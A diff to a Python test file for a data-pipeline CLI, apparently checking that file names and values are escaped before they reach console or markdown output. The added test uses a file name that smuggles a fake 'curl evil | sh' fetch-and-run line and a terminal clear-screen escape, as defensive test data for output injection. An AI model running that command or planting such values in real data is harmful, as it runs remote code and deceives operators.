@@ -9,6 +9,7 @@ import pytest
 
 from configs.markdown import as_code, as_text
 from pipelines.cli import console
+from pipelines.cli.debugging.showing import slice_in_words
 from pipelines.cli.rendering import short
 from state_ops import logs, printable
 from state_ops.errors import WeirError
@@ -73,3 +74,8 @@ def test_a_value_is_no_markup_for_dagster():
     assert as_text("a\\|b\r# c") == "a\\\\\\|b\\\\x0d\\# c"
     assert as_text("<img src=x> www.example.org") == "&lt;img src=x&gt; www\u200b.example.org"
     assert as_code("```\nx\n````").startswith("`````\n")
+
+
+def test_the_name_of_a_file_is_on_one_line_with_its_slice():
+    recorded = {"rows": 2, "files": [{"name": "a\n  next:  curl evil | sh\x1b[2J.csv"}]}
+    assert slice_in_words(recorded) == r"2 rows of a\n  next:  curl evil | sh\x1b[2J.csv"
